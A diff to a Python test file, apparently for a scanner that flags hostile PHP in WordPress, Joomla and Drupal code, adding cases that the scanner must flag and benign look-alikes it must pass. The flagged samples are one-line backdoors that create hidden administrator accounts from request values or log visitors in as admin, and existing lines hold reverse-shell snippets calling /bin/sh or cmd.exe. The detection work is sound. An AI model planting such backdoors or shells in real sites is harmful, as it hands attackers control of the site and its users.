@@ -35,6 +35,36 @@ def marks(source: str) -> list[str]:
             "$s = fsockopen($h, 443); proc_open('/bin/sh -i', [$s, $s, $s], $p);",
             "php-shell-calls-out",
         ),
+        (
+            "$i = wp_create_user($_GET['u'], $_GET['p']); $u->set_role('administrator');",
+            "php-grants-account",
+        ),
+        (
+            "add_action('init', function () { wp_insert_user(['user_login' => 'a', "
+            "'user_pass' => $_COOKIE['p'], 'role' => 'administrator']); });",
+            "php-grants-account",
+        ),
+        (
+            "$u = get_users(['role' => 'administrator']); wp_set_auth_cookie($u[0]->ID);",
+            "php-grants-account",
+        ),
+        (
+            "$u = get_user_by('login', $_GET['u']); wp_set_auth_cookie($u->ID);",
+            "php-grants-account",
+        ),
+        (
+            "$u = new JUser; $u->bind(['username' => 'a', 'password' => 'b', 'groups' => ['8']]);",
+            "php-grants-account",
+        ),
+        (
+            "user_save(null, array('name' => 'a', 'pass' => 'b', 'roles' => array(3 => "
+            "'administrator')));",
+            "php-grants-account",
+        ),
+        (
+            "add_action('pre_user_query', function ($q) { $q->query_where .= ' AND ID<>7'; });",
+            "php-hides-account",
+        ),
         ("$s = socket_connect($k, $h, 1); $p = popen('cmd.exe', 'w');", "php-shell-calls-out"),
     ],
 )
@@ -52,6 +82,20 @@ def test_points_at(source, mark):
         "add_action('pre_user_query', 'only_authors');",
         "$s = fsockopen('mail.example', 25); fwrite($s, 'EHLO x');",
         "exec('/bin/sh script.sh');",
+        "check_admin_referer('a'); wp_create_user($_POST['u'], $_POST['p']); "
+        "$u->set_role('administrator');",
+        "wp_create_user($_POST['u'], $_POST['p']);",
+        "$u = get_user_by('login', $_GET['u']); if (hash_equals($u->x, $_GET['token'])) "
+        "{ wp_set_auth_cookie($u->ID); }",
+        "$u = get_users(['role' => 'administrator']); if (wp_verify_nonce($_GET['n'])) "
+        "{ wp_set_auth_cookie($u[0]->ID); }",
+        "$u = get_user_by('id', $order->user); wp_set_auth_cookie($u->ID);",
+        "user_save(null, array('name' => $n, 'pass' => user_password(), 'roles' => [3 => "
+        "'administrator']));",
+        "user_save($account, array('pass' => 'b'));",
+        "class T extends TestCase { function a() { user_save(null, array('pass' => 'b', "
+        "'roles' => ['administrator'])); } }",
+        "$user->bind(['password' => $data['password'], 'groups' => [8]]); new JUser;",
         "$s = fsockopen($h, 25); exec('/usr/bin/convert a b');",
     ],
 )
